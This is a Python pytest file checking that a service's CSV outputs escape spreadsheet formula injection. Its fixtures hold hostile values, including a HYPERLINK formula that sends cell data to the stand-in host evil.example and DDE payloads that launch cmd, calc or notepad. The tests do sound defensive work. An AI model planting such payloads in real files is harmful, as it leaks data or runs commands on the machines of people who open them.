"""CSV formula injection: no CSV the service writes holds a live formula, whatever the data says.

Every text that reaches a CSV is made hostile at its source: the place names (data/places.csv), the area
names (the areas file), a category label (the taxonomy, which becomes a column header) and, for the import
rejects file, the rejected values themselves. Each CSV is then parsed and every cell checked: none may start
with ``= + - @``, tab or CR unless it is a plain number (``-2,5`` is a number, not a formula).
"""

from __future__ import annotations

import csv
import io
import json
import tomllib
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from hotspots.cli import app as cli_app
from hotspots.config import DATA_DIR, Settings, get_settings
from hotspots.geo.areas import Areas, load_areas
from hotspots.ingest import pipeline as ingest
from tests.api.conftest import CLUSTER, END, Api, api_settings, make_api

#: One hostile value per formula prefix, as OWASP's CSV-injection examples write them.
HOSTILE_PLACE = '=HYPERLINK("http://evil.example/?x="&A1;"Vivalla centrum")'
HOSTILE_AREA = "+cmd|' /C calc'!A0"
HOSTILE_OTHER_AREA = "-2+3+cmd|' /C calc'!A0"
HOSTILE_LABEL = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CATEGORY = "@cmd|' /C notepad'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
Q = {"end": END.isoformat(), "window": "28d"}


def csv_cells(data: bytes) -> list[str]:
    """Every cell of a semicolon CSV with a BOM, ``#`` preamble lines and the header included."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def live_formulas(data: bytes) -> list[str]:
    """Cells that a spreadsheet would evaluate."""
    return [cell for cell in csv_cells(data) if cell.startswith(FORMULA_STARTS) and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


def test_the_checker_sees_a_live_formula() -> None:
    plain = b"a;b\r\n=1+1;-2,5\r\n'=1+1;@x\r\n"
    assert live_formulas(plain) == ["=1+1", "@x"]


def _hostile_files(directory: Path) -> dict[str, Path]:
    """Areas, places and taxonomy files like the shipped ones, with formula-like names."""
    areas = json.loads((DATA_DIR / "areas.geojson").read_text(encoding="utf-8"))
    for feature in areas["features"]:
        renamed = {"vivalla": HOSTILE_AREA, "baronbackarna": HOSTILE_OTHER_AREA}
        feature["properties"]["name"] = renamed.get(feature["properties"]["area_id"], "Annat")
    (directory / "areas.geojson").write_text(json.dumps(areas), encoding="utf-8")
    shipped = load_areas(Settings()).frame.set_index("area_id").geometry
    with (directory / "places.csv").open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["name", "kind", "lat", "lon", "area_id"])
        for name, area_id in ((HOSTILE_PLACE, "vivalla"), (HOSTILE_LABEL, "baronbackarna")):
            point = shipped[area_id].representative_point()
            writer.writerow([name, "square", point.y, point.x, area_id])
    taxonomy = (DATA_DIR / "taxonomy.toml").read_text(encoding="utf-8")
    label = tomllib.loads(taxonomy)["categories"][0]["sv"]
    (directory / "taxonomy.toml").write_text(
        taxonomy.replace(f'sv = "{label}"', f'sv = "{HOSTILE_LABEL}"', 1)
    )
    return {
        "areas_file": directory / "areas.geojson",
        "places_file": directory / "places.csv",
        "taxonomy_file": directory / "taxonomy.toml",
    }


@pytest.fixture
def hostile_files(tmp_path: Path) -> dict[str, Path]:
    return _hostile_files(tmp_path)


@pytest.fixture
def hostile_api(tmp_path: Path, hostile_files: dict[str, Path]) -> Iterator[Api]:
    settings = api_settings(f"sqlite:///{tmp_path / 'store.db'}").model_copy(update=hostile_files)
    areas: Areas = load_areas(settings)
    result = make_api(settings, areas)
    yield result
    result.engine.dispose()


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_priority_list_csv_has_no_live_formula(hostile_api: Api, lang: str) -> None:
    response = hostile_api.client.get(
        "/priorities", headers=hostile_api.auth("est"), params=Q | {"format": "csv", "lang": lang}
    )
    assert response.status_code == 200, response.text
    cells = set(csv_cells(response.content))
    assert {"'" + HOSTILE_PLACE, "'" + HOSTILE_AREA} <= cells  # the hostile values are there, as text
    if lang == "sv":
        assert "'" + HOSTILE_LABEL in cells  # the category label is a column header
    assert live_formulas(response.content) == []


def test_export_csv_has_no_live_formula(hostile_api: Api) -> None:
    response = hostile_api.client.get("/exports/cells.csv", headers=hostile_api.auth("est"), params=Q)
    assert response.status_code == 200, response.text
    frame = pd.read_csv(io.BytesIO(response.content), sep=";", decimal=",", comment="#", encoding="utf-8-sig")
    assert frame["count"].tolist() == [CLUSTER] and frame["area"].tolist() == ["'" + HOSTILE_AREA]
    assert live_formulas(response.content) == []


def _hostile_rejects_csv(path: Path) -> Path:
    """An import file whose rejected values are formula-like (one per prefix, in different fields)."""
    lines = [
        "source,source_id,occurred_at,category,lat,lon,note",
        f'police,X1,2026-11-10T21:00:00+01:00,"{HOSTILE_CATEGORY}",59.27,15.2,',
        f'"{HOSTILE_AREA}",X2,2026-11-10T21:00:00+01:00,observed_dealing,59.27,15.2,',
        'police,X3,"=1+cmd",observed_dealing,59.27,15.2,',
        "police,X4,2026-11-10T21:00:00+01:00,observed_dealing,-59.27,15.2,",
        'police,X5,2026-11-10T21:00:00+01:00,observed_dealing,59.27,"\t=cmd",',
        "police,X6,2026-11-10T21:00:00+01:00,observed_dealing,59.27,15.2,fine",
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_import_rejects_file_has_no_live_formula(
    sqlite_settings: Settings, areas: Areas, tmp_path: Path
) -> None:
    from hotspots.store.engine import open_store

    source = _hostile_rejects_csv(tmp_path / "hostile.csv")
    result = ingest.import_file(
        open_store(sqlite_settings), source, settings=sqlite_settings, areas=areas, skip_invalid=True
    )
    assert (result.rows_added, result.rows_rejected) == (1, 5)
    rejects = tmp_path / "rejects.csv"
    ingest.write_rejects(result, rejects)
    values = pd.read_csv(rejects, sep=";", encoding="utf-8-sig", dtype=str)["value"].tolist()
    assert "'" + HOSTILE_CATEGORY in values and "'=1+cmd" in values
    assert live_formulas(rejects.read_bytes()) == []


@pytest.fixture
def hostile_env(
    tmp_path: Path, hostile_files: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Path]:
    """The CLI's environment pointing at a fresh store and the hostile areas, places and taxonomy."""
    monkeypatch.setenv("HOTSPOTS_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    for name, path in hostile_files.items():
        monkeypatch.setenv(f"HOTSPOTS_{name.upper()}", str(path))
    get_settings.cache_clear()
    yield tmp_path
    get_settings.cache_clear()


def test_cli_rejects_and_priorities_csv_have_no_live_formula(hostile_env: Path) -> None:
    runner = CliRunner()
    source = _hostile_rejects_csv(hostile_env / "hostile.csv")
    rejects = hostile_env / "rejects.csv"
    result = runner.invoke(
        cli_app, ["import", str(source), "--skip-invalid", "--rejects", str(rejects), "-q"]
    )
    assert result.exit_code == 0, result.output
    assert live_formulas(rejects.read_bytes()) == [] and "'" + HOSTILE_CATEGORY in csv_cells(
        rejects.read_bytes()
    )

    settings = get_settings()
    shipped = load_areas(settings).frame.set_index("area_id").geometry
    point = shipped["vivalla"].representative_point()
    cluster = pd.DataFrame(
        {
            "source": "police",
            "source_id": [f"C{i}" for i in range(CLUSTER)],
            "occurred_at": [f"2026-11-{1 + i:02d}T21:30:00+01:00" for i in range(CLUSTER)],
            "category": "observed_dealing",
            "lat": point.y,
            "lon": point.x,
        }
    )
    cluster.to_csv(hostile_env / "cluster.csv", index=False)
    assert runner.invoke(cli_app, ["import", str(hostile_env / "cluster.csv"), "-q"]).exit_code == 0
    out = hostile_env / "list.csv"
    result = runner.invoke(
        cli_app, ["priorities", "--format", "csv", "--end", END.isoformat(), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert "'" + HOSTILE_PLACE in csv_cells(out.read_bytes())
    assert live_formulas(out.read_bytes()) == []
